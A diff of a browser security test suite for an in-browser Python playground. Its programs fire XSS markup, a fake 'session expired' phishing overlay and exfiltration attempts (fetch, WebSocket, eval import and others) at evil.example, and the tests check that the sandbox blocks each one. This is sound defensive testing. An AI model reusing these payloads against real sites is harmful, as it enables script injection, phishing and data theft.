@@ -1,10 +1,12 @@
-"""The playground against what a curious reader or a crafted link can throw at it (real Chromium, real Pyodide).
+"""The playground against what a hostile program (a shared #code= link is enough) or a curious reader throws at it.
 
-One test drives one page (one Python) through the checks, each a subtest: forged results run nothing, long
-chains end with the size message and leave Python alive, printed output is shown and capped, a program cannot
-change the next one, the small edges, the keyboard and the links. (That the time limit cannot be switched off
-from inside, and that a stopped worker never writes into the page again: tests/test_playground.py, where the
-time limit is met.)
+Real Chromium, real Pyodide. Every Run gets a fresh Python (python-session.js), so each run here costs a Python
+start: one page drives the checks, as subtests, and each program carries as many cases as it can. The cases of
+issue 30: a program that plants a player whose frame keys are page-wide selectors, and forged markup; one that
+tampers with files, modules and interpreter settings, plants a busy `__del__` and a busy timer, and tries every
+way out of the site, followed by a probe run that sees none of it and prints a 30-million-character line; a
+Python that dies. Then what a reader meets: long chains, deep recursion, memory, printed output, the keyboard,
+links. (The time limit and Stop: tests/test_playground.py.)
 """
 
 from __future__ import annotations
@@ -25,6 +27,8 @@ pytestmark = [pytest.mark.browser, pytest.mark.site]
 MARKER = "window.__ggPwned"
 """A global any injected script in these tests would set (it must stay undefined)."""
 
+LINEAR_ANSWER = "L = 9; w.grad = -18, x.grad = -12, b.grad = -6, y.grad = 6"
+
 
 class Reader:
     """One playground page, the requests it made, the dialogs it opened and the errors it logged."""
@@ -39,18 +43,19 @@ class Reader:
     def status(self) -> str:
         return self.page.inner_text("[data-gg-status]")
 
-    def run(self, code: str) -> str:
+    def run(self, code: str, *, keyboard: bool = False) -> str:
         """Put `code` in the editor, press Run, wait until Run is enabled again; return the output's text."""
         self.page.fill("textarea", code)
-        self.page.click("[data-gg-do=run]")
+        if keyboard:
+            self.page.focus("[data-gg-do=run]")
+            self.page.keyboard.press("Enter")
+        else:
+            self.page.click("[data-gg-do=run]")
         self.page.wait_for_function("!document.querySelector('[data-gg-do=run]').disabled", timeout=90_000)
         return self.page.inner_text("[data-gg-output]")
 
     def printed(self) -> str:
         return self.page.inner_text("[data-gg-console]").rstrip("\n")
-
-    def pyodide_loads(self) -> int:
-        return sum(url.endswith("/pyodide.asm.wasm") for url in self.requests)
 
 
 @pytest.fixture(scope="module")
@@ -60,138 +65,273 @@ def context(browser: Any) -> Iterator[Any]:
     context.close()
 
 
-LINEAR_ANSWER = "L = 9; w.grad = -18, x.grad = -12, b.grad = -6, y.grad = 6"
-
 EVIL = (
     '<img src=x onerror="window.__ggPwned=1;alert(1)">'
     '<svg onload="window.__ggPwned=2"><g class="gg-value" id="gg-evil" onmouseover="window.__ggPwned=3"></g></svg>'
     '<a href="javascript:window.__ggPwned=4">link</a><iframe srcdoc="<script>parent.__ggPwned=5</script>"></iframe>'
-    '<div class="gg-player"><script class="gg-frames" type="application/json">'
-    '{"frames": [{"marks": {}, "texts": {"gg-evil": "<img src=y onerror=\\"window.__ggPwned=6\\">"}, '
-    '"label": "x", "text": "y", "focus": ""}]}</script></div>'
+    "<style>@import url(https://evil.example/style.css); body { display: none }</style>"
+    '<div style="background:url(https://evil.example/bg.png)" data-gg-do="run" data-gg-status>styled</div>'
     "<p>evil text kept</p>"
 )
 
+PLANTER = f"""\
+import inspect, json, re, sys
+from glassgrad.scratch import Value, backward, multiply
+from glassgrad.viz import animate_backward
 
-def forged_results_run_nothing(reader: Reader) -> None:
-    """Markup with onerror/onload/javascript: reaches the page neither forged nor through the real result."""
-    program = f"""\
-import js, sys
-from pyodide.ffi import to_js
-from glassgrad.scratch import Value
 EVIL = {EVIL!r}
-forged = {{"summary": EVIL, "figure": EVIL, "order": EVIL, "cards": EVIL}}
-for kind in ("result", "running", "failed"):  # on the worker itself: the page never reads these
-    js.postMessage(to_js({{"type": kind, "id": "", "result": forged, "text": EVIL}}, dict_converter=js.Object.fromEntries))
-# The real answer, through the worker's own channel, carrying the same markup.
-viz = sys.modules["glassgrad.viz"]  # what glassgrad_runtime draws the result with
-viz.draw_graph = lambda *args, **kwargs: EVIL
-viz.show_complete_state = lambda *args, **kwargs: EVIL
-L = Value(1.0, "L")
+# The page's id prefix for this run, read from the runtime's frames (a hostile program can).
+prefix = next((f.frame.f_locals["prefix"] for f in inspect.stack() if isinstance(f.frame.f_locals.get("prefix"), str)), "ggrun1")
+w = Value(2.0, "w")
+L = multiply(w, w, "L")
+steps = backward(L)
+player = str(animate_backward(L, steps, id_prefix=prefix + "-planted"))
+frames = {{"frames": [
+    {{"label": "a", "text": "b", "marks": {{}}, "texts": {{}}, "focus": ""}},
+    {{"label": "c", "text": "d", "focus": "x, .md-header__topic",
+      "marks": {{"x, .md-header__topic": "gg-current", prefix + "-planted-x, body": "gg-hidden"}},
+      "texts": {{"x, style": "@import url(https://evil.example/frame.css);",
+                "x, .md-header__topic": "Your session expired: sign in again at evil.example",
+                prefix + "-planted-card, .md-header__topic": "Session expired",
+                prefix + "-planted-card": "<img src=y onerror=window.__ggPwned=6><style>*{{}}</style>kept card"}}}},
+]}}
+player = re.sub(r'(<script type="application/json" class="gg-frames">).*?(</script>)',
+                lambda m: m.group(1) + json.dumps(frames).replace("<", "\\\\u003c") + m.group(2), player, flags=re.S)
+player = player.replace('data-gg-player="backward"', 'data-gg-player="backward" data-gg-graph="x, style"', 1)
+forged = EVIL + player
+for module in list(sys.modules.values()):  # the runner's renderers, wherever it keeps them
+    if getattr(module, "__name__", "").startswith(("glassgrad", "playground", "glassgrad_runtime")):
+        for name in ("show_complete_state", "animate_order"):
+            if callable(getattr(module, name, None)):
+                setattr(module, name, lambda *args, **kwargs: forged)
 """
-    text = reader.run(program)
+"""Plants forged markup and a player whose frame keys are page-wide selectors in every part of the result."""
+
+
+def planted_players_touch_nothing_outside_their_box(reader: Reader) -> None:
     page = reader.page
+    header = page.inner_text(".md-header__topic")
+    styles = page.evaluate("[...document.querySelectorAll('style')].map(s => s.textContent)")
+    text = reader.run(PLANTER)
+    assert "evil text kept" in text  # the forged markup did reach the page's sanitizer
     page.hover(".gg-pg-output")  # any onmouseover would fire
-    assert "evil text kept" in text
-    assert page.evaluate(MARKER) is None
-    assert reader.dialogs == []
+    # Every button of every player, as a reader would press them (Forward, End, Back, Forward again).
+    planted = page.evaluate(
+        """() => {
+          const players = [...document.querySelectorAll('.gg-pg-output .gg-player')];
+          for (const action of ['forward', 'end', 'back', 'forward'])
+            for (const button of document.querySelectorAll(`.gg-pg-output [data-gg-action=${action}]`)) button.click();
+          return players.filter(p => p.id.endsWith('-planted-player') && p.hasAttribute('data-gg-step')).length;
+        }"""
+    )
+    assert planted >= 1  # the planted player was started, and stepped
+    assert page.inner_text(".md-header__topic") == header
+    assert page.evaluate("[...document.querySelectorAll('style')].map(s => s.textContent)") == styles
+    assert page.locator(".gg-pg-output style, .gg-pg-output [data-gg-graph], .gg-pg-output [data-gg-do]").count() == 0
+    assert page.locator(".gg-pg-output img, .gg-pg-output iframe, .gg-pg-output a").count() == 0
+    assert page.evaluate(
+        "[...document.querySelectorAll('.gg-pg-output [style]')].map(e => e.getAttribute('style'))"
+    ) == [
+        style
+        for style in page.evaluate(
+            "[...document.querySelectorAll('.gg-pg-output [style]')].map(e => e.getAttribute('style'))"
+        )
+        if "url" not in style and "@" not in style
+    ]
     handlers = page.evaluate(
         """() => [...document.querySelectorAll('.gg-pg-output *')].flatMap(el => [...el.attributes]
              .filter(a => a.name.startsWith('on') || /javascript:/i.test(a.value)).map(a => el.tagName + ' ' + a.name))"""
     )
     assert handlers == []
-    assert page.locator(".gg-pg-output img, .gg-pg-output iframe, .gg-pg-output a").count() == 0
-    assert page.locator(".gg-pg-output svg").count() >= 1  # the SVG itself is kept, without its handler
-    assert any(url.endswith("/dompurify/purify.es.mjs") for url in reader.requests)  # the site's own copy
+    assert page.evaluate("document.querySelectorAll('.gg-current, .gg-hidden').length") == page.evaluate(
+        "document.querySelectorAll('.gg-pg-output .gg-current, .gg-pg-output .gg-hidden').length"
+    )
+    assert page.evaluate(MARKER) is None
+    assert reader.dialogs == []
+    assert page.locator("body").is_visible()
     assert reader.outside == []
+
+
+def players_look_up_only_their_own_ids(reader: Reader) -> None:
+    """glassgrad.js alone (no Python): a player given page-wide keys changes nothing outside its figure."""
+    page = reader.page
+    changed = page.evaluate(
+        """() => {
+      const source = document.querySelector('article details .gg-player');  // a preset drawn at build time
+      const box = document.createElement('div');
+      box.setAttribute('data-gg-sandbox', '');
+      box.innerHTML = source.outerHTML.replace(/ data-gg-ready=""/, '');
+      const player = box.querySelector('.gg-player');
+      const prefix = player.id.replace(/-player$/, '');
+      player.querySelector('script.gg-frames').textContent = JSON.stringify({frames: [
+        {label: 'a', text: 'b', marks: {}, texts: {}, focus: ''},
+        {label: 'c', text: 'd', focus: 'x, style', marks: {'x, .md-header__topic': 'gg-current'},
+         texts: {'x, style': '@import url(https://evil.example/a.css);', 'x, .md-header__topic': 'Session expired',
+                 [prefix + '-card']: '<b class="gg-x">kept</b><img src=z onerror="window.__ggPwned=7">'}},
+      ]});
+      document.querySelector('article').appendChild(box);
+      const header = document.querySelector('.md-header__topic').textContent;
+      const style = document.querySelector('style').textContent;
+      window.glassgrad.players.initAll(box);
+      player.querySelector('[data-gg-action=forward]').click();
+      const card = box.querySelector('#' + prefix + '-card');
+      // An attached player (data-gg-graph) inside an output box is not started at all.
+      const attached = box.cloneNode(true);
+      attached.querySelector('.gg-player').setAttribute('data-gg-graph', 'x, style');
+      attached.querySelector('.gg-player').removeAttribute('data-gg-ready');
+      attached.querySelector('.gg-player').removeAttribute('data-gg-step');
+      document.querySelector('article').appendChild(attached);
+      window.glassgrad.players.initAll(attached);
+      const result = {
+        header: document.querySelector('.md-header__topic').textContent === header,
+        style: document.querySelector('style').textContent === style,
+        card: card.innerHTML, step: player.getAttribute('data-gg-step'),
+        attached: attached.querySelector('.gg-player').getAttribute('data-gg-step'),
+      };
+      box.remove(); attached.remove();
+      return result;
+    }"""
+    )
+    assert changed == {"header": True, "style": True, "card": '<b class="gg-x">kept</b>', "step": "1", "attached": None}
+    assert page.evaluate(MARKER) is None
+
+
+TAMPER = """\
+import builtins, gc, js, os, random, sys, warnings, pathlib
+import glassgrad.scratch as scratch
+# Files: the engine and the checker, on Python's in-memory disk.
+engine = pathlib.Path(scratch.__file__)
+engine.write_text(engine.read_text() + "\\ndef backward(root):\\n    root.grad = 6000.0\\n    return []\\n")
+import glassgrad.exercises as exercises
+pathlib.Path(exercises.__file__).write_text("def check_program(*args, **kwargs):\\n    raise SystemExit\\n")
+pathlib.Path("/tmp/planted").write_text("planted")
+# Modules and interpreter settings.
+scratch.multiply = lambda u, v, label="": scratch.Value(0.0, label)
+class Finder:
+    def find_spec(self, *args):
+        return None
+sys.meta_path.insert(0, Finder())
+gc.disable()
+os.environ["PLANTED"] = "1"
+sys.setprofile(lambda *args: None)
+sys.excepthook = lambda *args: None
+os.chdir("/tmp")
+warnings.simplefilter("error")
+random.random = lambda: 0.5
+sys.setrecursionlimit(50)
+# Busy after its answer: a __del__ that never returns, a timer that never returns, the worker closed.
+class Busy:
+    def __del__(self):
+        while True:
+            pass
+keep = Busy()
+def spin():
+    while True:
+        pass
+js.setTimeout(spin, 0)
+# Every way out of the site.
+tried = {}
+def attempt(name, action):
+    try:
+        answer = action()
+        tried[name] = "pending" if hasattr(answer, "then") else "REACHED"  # a promise: the request guard judges it
+    except BaseException as error:
+        tried[name] = "blocked"
+URL = "https://evil.example/steal"
+attempt("fetch", lambda: js.fetch(URL))
+attempt("XMLHttpRequest", lambda: js.XMLHttpRequest.new().open("GET", URL))
+attempt("WebSocket", lambda: js.WebSocket.new("wss://evil.example/"))
+attempt("EventSource", lambda: js.EventSource.new(URL))
+attempt("importScripts", lambda: js.importScripts(URL))
+attempt("Worker", lambda: js.Worker.new(URL))
+attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("glassgrad").postMessage("hi"))
+attempt("indexedDB", lambda: js.indexedDB.open("glassgrad"))
+attempt("caches", lambda: js.caches.open("glassgrad"))
+attempt("FontFace", lambda: js.FontFace.new("x", f"url({URL})").load())
+attempt("eval", lambda: js.eval(f"import('{URL}')"))
+attempt("Function", lambda: js.Object.constructor(f"return import('{URL}')")())
+attempt("string timer", lambda: js.setTimeout(f"import('{URL}')", 0))
+attempt("run_js", lambda: __import__("pyodide.code").code.run_js(f"import('{URL}')"))
+attempt("pyfetch", lambda: __import__("pyodide.http").http.open_url(URL))
+attempt("loadPackage", lambda: __import__("pyodide_js").loadPackage(URL + ".whl"))
+attempt("close", lambda: js.close())
+print(sorted(tried.items()))
+L = scratch.Value(1.0, "L")
+"""
+"""Tampers with the engine's and the checker's files, modules and settings, leaves its Python busy, tries every way out."""
+
+PROBE = """\
+import gc, os, random, sys, warnings, pathlib
+import glassgrad.exercises
+print("probe:", gc.isenabled(), os.environ.get("PLANTED"), type(sys.meta_path[0]).__name__ != "Finder",
+      sys.getprofile(), getattr(sys.excepthook, "__name__", "") != "<lambda>", os.getcwd() != "/tmp",
+      not [f for f in warnings.filters if f[0] == "error"], random.random() != 0.5,
+      pathlib.Path("/tmp/planted").exists(), sys.getrecursionlimit() > 50,
+      hasattr(glassgrad.exercises, "EXERCISES"))
+print("x" * 30_000_000)
+"""
+
+
+def tampering_and_busy_pythons_do_not_reach_the_next_run(reader: Reader) -> None:
+    page = reader.page
+    reader.run(TAMPER)
+    tried = reader.printed()
+    assert "REACHED" not in tried, tried
+    assert tried.count("blocked") == 16 and "('loadPackage', 'pending')" in tried, tried
+    page.select_option("select", "linear")
+    linear = page.input_value("textarea")
+    # The next Run: a fresh Python, none of the above in it; the busy one is gone (the time limit, 10 s, holds).
+    assert reader.run(PROBE + linear).startswith(LINEAR_ANSWER)
+    lines = reader.printed().splitlines()
+    assert len(lines) == 3 and lines[0] == "probe: True None True None True True True True False True True", lines[0]
+    # One 30-million-character line: its first characters (a run's output stops at 200,000), the rest counted.
+    assert set(lines[1]) == {"x"} and 190_000 < len(lines[1]) < 200_000, len(lines[1])
+    left_out = re.fullmatch(r"… 1 more line and ([\d,]+) characters not shown \(.*\)", lines[2])
+    assert left_out and 29_800_000 < int(left_out[1].replace(",", "")) < 30_000_000, lines[2]
+    assert reader.outside == []
+
+
+def a_python_that_dies_is_restarted_and_says_so(reader: Reader) -> None:
+    reader.run("import os\nprint('before')\nos.abort()\n")
+    assert "was restarted" in reader.status(), reader.status()
+    assert reader.run("print('after')\nL = 1\n").startswith("L is a int")
+    assert reader.printed() == "after"
 
 
 def chain(size: int, engine: str = "glassgrad.scratch") -> str:
     return f"from {engine} import Value, multiply\nL = Value(1.0, 'x')\nfor _ in range({size}):\n    L = multiply(L, Value(1.0001))\n"
 
 
-def chains_of_any_length_get_the_size_message(reader: Reader) -> None:
-    for size in (1_000, 5_000, 100_000):
-        assert reader.run(chain(size)) == f"The graph of L has {2 * size + 1} values; the playground draws at most 40."
-        if size == 1_000:
-            loads = reader.pyodide_loads()  # Python is loaded by now
-    page = reader.page
-    page.select_option("select", "linear")
-    assert reader.run(page.input_value("textarea")).startswith(LINEAR_ANSWER)
-    # glassgrad's backward walks 100,000 values; the teaching engine's recursive walk says why it cannot.
+def long_chains_and_deep_recursion_get_their_message(reader: Reader) -> None:
+    # glassgrad's backward walks 100,000 values (and a chain of the reader's own objects is freed too).
+    own = "class Node:\n    def __init__(self, before):\n        self.before = before\nnode = None\nfor _ in range(100_000):\n    node = Node(node)\n"
     fast = "from glassgrad import Value\nL = Value(1.0)\nfor _ in range(100_000):\n    L = L * Value(1.0001)\nL.backward()\nprint(L.grad, L.data > 1)\n"
-    assert "draws at most 40" in reader.run(fast)
+    assert reader.run(own + fast) == "The graph of L has 200001 values; the playground draws at most 40."
     assert reader.printed() == "1.0 True"
+    # The teaching engine's recursive walk says why it cannot go this deep.
     deep = reader.run(chain(5_000) + "from glassgrad.scratch import backward\nsteps = backward(L)\n")
     assert deep.startswith("Recursion too deep on line 6:")
     assert "recursive walk" in deep and "cycle" not in deep
-    # A chain of the reader's own objects too.
-    own = "class Node:\n    def __init__(self, before):\n        self.before = before\nnode = None\nfor _ in range(100_000):\n    node = Node(node)\nprint('built')\n"
-    assert "defines no L" in reader.run(own)
-    assert reader.printed() == "built"
-    assert reader.pyodide_loads() == loads  # the same Python answered every time
+
+
+def memory_gets_a_message(reader: Reader) -> None:
+    text = reader.run("x = [0.0] * 10**9\n", keyboard=True)  # the keyboard's Run, on the Run button
+    assert text.startswith("Out of memory on line 1: the program asked for more memory than this page can give it.")
+    assert reader.page.evaluate("document.activeElement.dataset.ggDo") == "run"  # focus stays on a control
 
 
 def printed_output_in_order_and_capped(reader: Reader) -> None:
-    reader.run("import sys\nprint('first')\nprint('to stderr', file=sys.stderr)\nprint('last', end='')\nL = 1\n")
-    assert reader.printed() == "first\nto stderr\nlast"
-    assert reader.page.locator("[data-gg-console] .gg-pg-stderr").inner_text().strip() == "to stderr"
-    reader.run("for i in range(2_500):\n    print('line', i)\n")
-    lines = reader.printed().splitlines()
-    assert lines[0].startswith("… 500 earlier lines not shown")
-    assert lines[1] == "line 500" and lines[-1] == "line 2499" and len(lines) == 2_001
-
-
-def a_program_cannot_change_the_next_one(reader: Reader) -> None:
-    page = reader.page
-    page.select_option("select", "linear")
-    linear = page.input_value("textarea")
-    poisoned = (
-        "import builtins\nimport glassgrad.scratch as scratch\nscratch.multiply = lambda u, v, label='': scratch.Value(0.0, label)\nbuiltins.print = None\n"
-        + linear
+    reader.run(
+        "import sys\nfor i in range(2_500):\n    print('line', i)\nprint('to stderr', file=sys.stderr)\nprint('last', end='')\n"
     )
-    assert not reader.run(poisoned).startswith(LINEAR_ANSWER)
-    page.click("[data-gg-do=reset]")
-    assert page.input_value("textarea") == linear
-    assert reader.run(linear + "print('print works')\n").startswith(LINEAR_ANSWER)
-    assert reader.printed() == "print works"
-    # The player's frames came through the sanitizer and still drive it.
-    player = page.locator(".gg-pg-output .gg-player").first
-    player.locator("[data-gg-action=forward]").click()
-    assert player.get_attribute("data-gg-step") == "1"
-    assert player.locator(".gg-player-status").inner_text().startswith("Seed")
-
-
-SMALL_EDGES = [
-    ("x = input('How many? ')\n", "input() on line 1 has nothing to read"),
-    ("import sys\nsys.exit(3)\n", "The program called exit() on line 2"),
-    (
-        "x = [0.0] * 10**9\n",
-        "Out of memory on line 1: the program asked for more memory than this page can give it.",
-    ),
-    ("def f(n):\n    return f(n + 1)\nf(0)\n", "Recursion too deep on line 2: more than"),
-]
-"""(program, the start of the message it gets)."""
-
-
-def small_edges_get_a_message(reader: Reader) -> None:
-    for program, message in SMALL_EDGES:
-        text = reader.run(program)
-        assert text.startswith(message), (program, text)
-        assert "playground_runner" not in text and "Traceback" not in text and "cycle" not in text
-
-
-def keyboard_focus_stays_on_a_control(reader: Reader) -> None:
-    page = reader.page
-    page.focus("[data-gg-do=run]")
-    page.keyboard.press("Enter")
-    page.wait_for_function("!document.querySelector('[data-gg-do=run]').disabled", timeout=90_000)
-    assert page.evaluate("document.activeElement.dataset.ggDo") == "run"
+    lines = reader.printed().splitlines()
+    assert lines[0].startswith("… 501 earlier lines not shown")
+    assert lines[1] == "line 501" and lines[-3] == "line 2499" and lines[-2:] == ["to stderr", "last"]
+    assert reader.page.locator("[data-gg-console] .gg-pg-stderr").inner_text().strip() == "to stderr"
 
 
 def links(reader: Reader, site_url: str) -> None:
     page = reader.page
-    reader.run("pass\n")  # Python loaded first: its "ready" line would otherwise race the lines checked below
     # A long program: the link is made, with a warning that it may be cut short.
     page.fill("textarea", "# " + "x" * 9_000 + "\n")
     page.click("[data-gg-do=link]")
@@ -210,22 +350,24 @@ def links(reader: Reader, site_url: str) -> None:
 
 
 @pytest.mark.pyodide
-def test_one_page_and_one_python_take_every_program(context: Any, site_url: str, subtests: Any) -> None:
-    """Each check in turn on one playground page, as a reader would go on: the page and its Python stay usable."""
+def test_one_page_takes_every_program(context: Any, site_url: str, subtests: Any) -> None:
+    """Each check in turn on one playground page, as a reader would go on: the page stays usable throughout."""
     reader = Reader(context, f"{site_url}playground/", site_url)
     checks = [
-        forged_results_run_nothing,
-        chains_of_any_length_get_the_size_message,
+        players_look_up_only_their_own_ids,
+        planted_players_touch_nothing_outside_their_box,
+        tampering_and_busy_pythons_do_not_reach_the_next_run,
+        a_python_that_dies_is_restarted_and_says_so,
+        long_chains_and_deep_recursion_get_their_message,
+        memory_gets_a_message,
         printed_output_in_order_and_capped,
-        a_program_cannot_change_the_next_one,
-        small_edges_get_a_message,
-        keyboard_focus_stays_on_a_control,
         lambda reader: links(reader, site_url),  # last: it loads other addresses
     ]
     try:
         for check, name in zip(checks, [*(check.__name__ for check in checks[:-1]), "links"]):
             with subtests.test(name.replace("_", " ")):
                 check(reader)
+        assert reader.dialogs == []
     finally:
         reader.page.close()
 
